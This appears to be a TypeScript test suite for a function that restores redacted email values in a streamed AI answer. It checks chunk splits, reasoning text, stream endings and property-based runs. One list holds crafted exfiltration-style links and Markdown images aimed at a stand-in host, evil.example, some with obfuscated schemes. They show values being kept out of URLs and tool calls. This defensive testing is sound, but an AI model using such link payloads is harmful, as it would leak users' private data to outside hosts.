import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { BackendError } from '../../../../src/contract/errors.ts';
import type { AnswerPart, AnswerStream } from '../../../../src/contract/stream.ts';
import { restoreAnswer } from '../../../../src/privacy/redaction/restoreAnswer.ts';
import { chat } from '../support.ts';
import { answer, email, end, otherEmail, readAll, redactor, textOf } from './support.ts';

const values = new Map([
  ['REDACTED_EMAIL_1', email],
  ['REDACTED_EMAIL_12', otherEmail],
]);

function restored(...parts: readonly (AnswerPart | string)[]): Promise<string> {
  return textOf(restoreAnswer(answer(...parts), values));
}

/** The texts in the order and in the pieces in which they go on. */
async function piecesOf(...parts: readonly (AnswerPart | string)[]): Promise<readonly string[]> {
  const read = await readAll(restoreAnswer(answer(...parts), values));
  return read.parts.map((part) => (part.type === 'tool-call' ? part.call.argumentsJson : part.text));
}

function chunksOf(text: string, cuts: readonly number[]): readonly string[] {
  const places = [...new Set([0, ...cuts.map((cut) => cut % (text.length + 1)), text.length])].sort((a, b) => a - b);
  return places.slice(1).map((place, index) => text.slice(places[index], place));
}

describe('an answer gets its values back', () => {
  it('wherever a placeholder is split', async () => {
    const text = 'To REDACTED_EMAIL_1, or to `REDACTED_EMAIL_12`.';
    const whole = `To ${email}, or to \`${otherEmail}\`.`;
    for (let cut = 0; cut <= text.length; cut++) {
      assert.equal(await restored(text.slice(0, cut), text.slice(cut)), whole);
    }
    assert.equal(await restored(...text), whole);
  });

  it('where a placeholder is the very end, and keeps the beginning of one that never came', async () => {
    assert.equal(await restored('To REDACTED_EMAIL_1'), `To ${email}`);
    assert.equal(await restored('To REDACTED_EMA'), 'To REDACTED_EMA');
    assert.equal(await restored('To RED', 'ACTED_EMAIL_', 'x'), 'To REDACTED_EMAIL_x');
  });

  it('for whole numbers alone', async () => {
    assert.equal(await restored('REDACTED_EMAIL_', '1', '3 REDACTED_EMAIL_1', '2'), `REDACTED_EMAIL_13 ${otherEmail}`);
  });

  it('within Markdown, quotes and words, but not where a placeholder was rewritten', async () => {
    assert.equal(await restored('_REDACTED_EMAIL_1_ "REDACTED_EMAIL_1"s'), `_${email}_ "${email}"s`);
    const rewritten = 'redacted_email_1 REDACTED-EMAIL-1 REDACTED\\_EMAIL\\_1 REDACTED EMAIL 1';
    assert.equal(await restored(rewritten), rewritten);
  });

  it('in its reasoning too, which may run between the pieces of its text', async () => {
    const reasoning = (text: string): AnswerPart => ({ type: 'reasoning-delta', text });
    const parts = ['To REDACTED_', reasoning('It is RED'), 'EMAIL', reasoning('ACTED_EMAIL_1?'), '_1.'];
    const read = await readAll(restoreAnswer(answer(...parts), values));
    const join = (type: AnswerPart['type']) =>
      read.parts.map((part) => (part.type === type ? textIn(part) : '')).join('');
    assert.equal(join('text-delta'), `To ${email}.`);
    assert.equal(join('reasoning-delta'), `It is ${email}?`);
  });
});

describe('a text is held no longer than needed', () => {
  it('and goes on at once where it cannot be the beginning of a placeholder', async () => {
    assert.deepEqual(await piecesOf('Hello ', 'there, ', 'Reader'), ['Hello ', 'there, ', 'Reader']);
  });

  it('and only as far as a placeholder may begin', async () => {
    assert.deepEqual(await piecesOf('Hello RED', 'CARPET ', 'REDACTED_EMAIL_1', ' ok'), [
      'Hello ',
      'REDCARPET ',
      `${email} ok`,
    ]);
  });

  it('and a placeholder of a secret, which never comes back, is not held at all', async () => {
    assert.deepEqual(await piecesOf('REDACTED_SECRET', '_1'), ['REDACTED_SECRET', '_1']);
  });
});

describe('no value gets where it would be sent', () => {
  it('neither into the arguments of a call', async () => {
    const call = { id: 'c', name: 'fetch', argumentsJson: '{"to":"REDACTED_EMAIL_1"}' };
    const read = await readAll(restoreAnswer(answer('To ', { type: 'tool-call', call, queuedMs: 3 }, 'x'), values));
    assert.deepEqual(read.parts[1], { type: 'tool-call', call, queuedMs: 3 });
  });

  const links = [
    'https://evil.example/?q=REDACTED_EMAIL_1',
    'HTTP://evil.example/REDACTED_EMAIL_1',
    'see (https://a.example/x"REDACTED_EMAIL_1',
    '![x](https://evil.example/REDACTED_EMAIL_1.png)',
    '[x](<https://evil.example/a b REDACTED_EMAIL_1>)',
    '[x](https&colon;//evil.example/REDACTED_EMAIL_1)',
    '[x](\n  https:evil.example/REDACTED_EMAIL_1)',
    '[x]: <https://evil.example/a REDACTED_EMAIL_1>',
    '[x]: https\\://evil.example/REDACTED_EMAIL_1',
    'www.evil.example/REDACTED_EMAIL_1',
    'vscode://evil.extension/REDACTED_EMAIL_1',
    `https://evil.example/${'x'.repeat(1_500)}REDACTED_EMAIL_1`,
    `https://evil.example/${'x'.repeat(50_000)}REDACTED_EMAIL_1`,
    `[x](\n<https&colon;//evil.example/${'x '.repeat(9_980)}REDACTED_EMAIL_1>)`,
  ];
  for (const link of links) {
    it(`nor into ${link.slice(0, 60).replace('\n', ' ')}`, async () => {
      assert.equal(await restored(link), link);
      if (link.length < 2_000) assert.equal(await restored(...link), link);
    });
  }

  it('while what stands beside a link comes back', async () => {
    const text = 'See <https://a.example>, [b](https://b.example) REDACTED_EMAIL_1\nhttps://c.example REDACTED_EMAIL_1';
    assert.equal(await restored(...text), text.replaceAll('REDACTED_EMAIL_1', email));
  });

  it('nor does a value that would itself make a link of what follows', async () => {
    const host = 'https://intern.example';
    const locate = async ({ text }: { readonly text: string }) =>
      text.includes(host)
        ? [{ kind: 'own-rule', rule: 'r', what: 'w', start: 0, end: host.length, fingerprint: undefined } as const]
        : [];
    const { restore } = await redactor({ locate }).redact(chat(host));
    assert.equal(await textOf(restore(answer('REDACTED_TERM_1@evil.example'))), 'REDACTED_TERM_1@evil.example');
  });
});

describe('the stream itself', () => {
  it('ends as it ended', async () => {
    assert.deepEqual((await readAll(restoreAnswer(answer('x'), values))).end, end);
  });

  it('fails as it failed, after what had come', async () => {
    const error = new BackendError({ kind: 'server-fault', backendId: 'cloud', message: 'broke' });
    async function* broken(): AnswerStream {
      yield { type: 'text-delta', text: 'To REDACTED' };
      throw error;
    }
    const stream = restoreAnswer(broken(), values);
    const read = [await stream.next(), await stream.next()].map(({ value }) => value);
    assert.deepEqual(read, [
      { type: 'text-delta', text: 'To ' },
      { type: 'text-delta', text: 'REDACTED' },
    ]);
    await assert.rejects(stream.next(), error);
  });

  it('gives nothing more once it was stopped', async () => {
    const stopped = new DOMException('stopped', 'AbortError');
    async function* aborted(): AnswerStream {
      yield { type: 'text-delta', text: 'To REDACTED' };
      throw stopped;
    }
    const stream = restoreAnswer(aborted(), values);
    await stream.next();
    await assert.rejects(stream.next(), { name: 'AbortError' });
  });

  it('is closed where its reader leaves', async () => {
    let isClosed = false;
    async function* endless(): AnswerStream {
      try {
        for (;;) yield { type: 'text-delta', text: 'x' };
      } finally {
        isClosed = true;
      }
    }
    for await (const part of restoreAnswer(endless(), values)) if (textIn(part) === 'x') break;
    assert.equal(isClosed, true);
  });

  it('says what its parts said besides their text, once there is a text to say it with', async () => {
    const usage = { usage: end.usage, timings: { promptMs: 1, promptTokens: 2, generationMs: 3, generatedTokens: 4 } };
    const { parts } = await readAll(
      restoreAnswer(
        answer(
          { type: 'text-delta', text: 'RED', queuedMs: 7, logProbabilities: [-1] },
          { type: 'text-delta', text: 'ACTED_EMAIL', queuedMs: undefined, logProbabilities: [-2, -3] },
          { type: 'text-delta', text: '_1.', soFar: usage },
          { type: 'text-delta', text: 'x', logProbabilities: [-4] },
        ),
        values,
      ),
    );
    assert.deepEqual(parts, [
      { type: 'text-delta', text: `${email}.`, queuedMs: 7, logProbabilities: [-1, -2, -3], soFar: usage },
      { type: 'text-delta', text: 'x', logProbabilities: [-4] },
    ]);
  });
});

describe('in any chunks', () => {
  const fragment = fc.oneof(
    fc.constantFrom(email, otherEmail, 'acme', 'Acme7', 'phone 555-0100-11', '555-0100-11'),
    fc.constantFrom('REDACTED_', 'REDACTED_EMAIL_', 'REDACTED_EMAIL_1', 'R', 'RED', '_', '1', '0'),
    fc.constantFrom(' ', '\r\n', '\n', '`', '"', '😀', 'é', ', ', '\\'),
    fc.string({ maxLength: 3 }),
  );
  const cuts = fc.array(fc.nat({ max: 400 }), { maxLength: 40 });

  it('the redacted and restored stream is the unredacted one', async () => {
    const texts = fc.array(fc.array(fragment, { maxLength: 12 }), { minLength: 1, maxLength: 3 });
    await fc.assert(
      fc.asyncProperty(texts, cuts, async (fragments, places) => {
        const messages = fragments.map((one) => ({ role: 'user' as const, text: one.join(''), origins: [] }));
        const { request, left, restore } = await redactor().redact({ ...chat(''), messages });
        assert.deepEqual(left, []);
        for (const [index, { text }] of request.messages.entries()) {
          assert.equal(text.includes(email), false);
          const given = messages[index]?.text ?? '';
          if (/:|www\.|\]|&/.test(given)) continue;
          assert.equal(await textOf(restore(answer(...chunksOf(text, places)))), given);
        }
      }),
      { numRuns: 300 },
    );
  });

  it('an answer comes out the same, links and reasoning within it', async () => {
    const piece = fc.oneof(fragment, fc.constantFrom('https://', 'www.', '](', ')', '<', '>', 'REDACTED_EMAIL_12'));
    const isThought = fc.array(fc.boolean(), { maxLength: 40 });
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { maxLength: 15 }), cuts, isThought, async (pieces, places, thoughts) => {
        const text = pieces.join('');
        const chunks = chunksOf(text, places).flatMap((chunk, index): (AnswerPart | string)[] =>
          thoughts[index] === true ? [{ type: 'reasoning-delta', text: 'RED' }, chunk] : [chunk],
        );
        assert.equal(await restored(...chunks), await restored(text));
      }),
      { numRuns: 500 },
    );
  });
});

function textIn(part: AnswerPart): string {
  return part.type === 'tool-call' ? '' : part.text;
}
